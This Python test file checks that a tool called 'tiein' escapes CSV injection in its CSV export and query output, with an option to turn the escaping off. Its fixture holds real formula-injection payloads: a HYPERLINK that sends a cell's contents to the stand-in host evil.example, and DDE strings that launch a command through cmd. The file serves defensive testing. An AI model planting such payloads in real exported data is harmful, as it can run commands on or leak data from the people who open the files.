"""CSV files meant for Excel never carry a live formula: ``tiein export --format csv`` and
``tiein cypher --csv`` put a ``'`` before a text cell that starts with = + - @ tab or CR (OWASP's
CSV injection rule), numbers stay numbers, and ``--no-formula-escape`` writes the text as is."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pyarrow as pa
import pyarrow.compute as pc
import pytest
from test_store_contract import catalog

from tiein.export import escape_formula, escape_formula_table

EVIL = {
    "phone-a": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "case-a": "+cmd|' /C calc'!A0",
    "film-a": "@SUM(1+1)*cmd|' /C calc'!A0",
    "charger": "-2+3+cmd|' /C calc'!A0",
    "phone-b": "\t=1+1",
}


@pytest.fixture(scope="module")
def store_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from tiein.graph.ladybug_store import EmbeddedStore

    data = catalog()
    products = data.products
    titles = [
        EVIL.get(pid, t)
        for pid, t in zip(products["product_id"].to_pylist(), products["title"].to_pylist(), strict=True)
    ]
    i = products.schema.get_field_index("title")
    data.products = products.set_column(i, products.schema.field(i), pa.array(titles, pa.string()))
    path = tmp_path_factory.mktemp("formula") / "graph"
    with EmbeddedStore(path) as s:
        s.replace(data)
    return path


def _tiein(*args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k not in ("TIEIN_STORE", "TIEIN_HOME")}
    return subprocess.run(
        [sys.executable, "-m", "tiein.cli", *args], capture_output=True, text=True, env=env, timeout=120
    )


def test_escape_rule() -> None:
    for bad in ("=1", "+1", "-1", "@x", "\tx", "\rx"):
        assert escape_formula(bad) == "'" + bad
    for fine in ("tent", "", " =1", "1-2", "露营"):
        assert escape_formula(fine) == fine
    assert escape_formula(-3.5) == -3.5 and escape_formula(None) is None
    table = pa.table({"t": ["=1", "ok", None, "-x"], "n": [-3.5, 1.0, None, -1.0]})
    out = escape_formula_table(table)
    assert out["t"].to_pylist() == ["'=1", "ok", None, "'-x"] and out["n"].to_pylist() == [
        -3.5,
        1.0,
        None,
        -1.0,
    ]
    assert pc.all(pc.equal(out["n"], table["n"])).as_py()


def test_export_csv_escapes_formulas_by_default(store_path: Path, tmp_path: Path) -> None:
    out = tmp_path / "related.csv"
    r = _tiein(
        "export", "related", "--format", "csv", "--out", str(out), "--quiet", "--store", str(store_path)
    )
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    titles = {row["anchor_product_id"]: row["anchor_title"] for row in rows}
    for pid, evil in EVIL.items():
        if pid in titles:
            assert titles[pid] == "'" + evil
    assert any(pid in titles for pid in EVIL)
    cells = [v for row in rows for v in row.values() if v]
    assert not [v for v in cells if v[0] in "=+@\t\r"]
    # numbers are numbers: a price or a score is never quoted
    assert all(not row["anchor_price"].startswith("'") and float(row["anchor_price"]) > 0 for row in rows)
    raw = tmp_path / "raw.csv"
    r = _tiein(
        "export",
        "related",
        "--format",
        "csv",
        "--out",
        str(raw),
        "--quiet",
        "--no-formula-escape",
        "--store",
        str(store_path),
    )
    assert r.returncode == 0, r.stderr
    raw_titles = {
        row["anchor_product_id"]: row["anchor_title"]
        for row in csv.DictReader(raw.open(encoding="utf-8", newline=""))
    }
    assert raw_titles["phone-a"] == EVIL["phone-a"]


def test_export_api_escapes_too(store_path: Path, tmp_path: Path) -> None:
    from tiein.export import export
    from tiein.graph.ladybug_store import EmbeddedStore

    with EmbeddedStore(store_path) as s:
        export(s, "bundles", tmp_path / "b.csv", fmt="csv")
        export(s, "bundles", tmp_path / "raw.csv", fmt="csv", formula_escape=False)
    escaped = (tmp_path / "b.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in escaped and ",=HYPERLINK" not in escaped
    assert ",=HYPERLINK" in (tmp_path / "raw.csv").read_text(encoding="utf-8").replace(
        '"=HYPERLINK', "=HYPERLINK"
    )


def test_cypher_csv_escapes_formulas(store_path: Path) -> None:
    q = "MATCH (p:Product) WHERE p.product_id IN ['phone-a', 'case-a'] RETURN p.product_id AS id, p.title AS t, -3.5 AS n ORDER BY id"
    out = _tiein("cypher", q, "--csv", "--store", str(store_path))
    assert out.returncode == 0, out.stderr
    rows = list(csv.reader(io.StringIO(out.stdout)))
    assert rows == [
        ["id", "t", "n"],
        ["case-a", "'" + EVIL["case-a"], "-3.5"],
        ["phone-a", "'" + EVIL["phone-a"], "-3.5"],
    ]
    raw = _tiein("cypher", q, "--csv", "--no-formula-escape", "--store", str(store_path))
    assert list(csv.reader(io.StringIO(raw.stdout)))[1] == ["case-a", EVIL["case-a"], "-3.5"]
    assert "--no-formula-escape" in _tiein("export", "--help").stdout
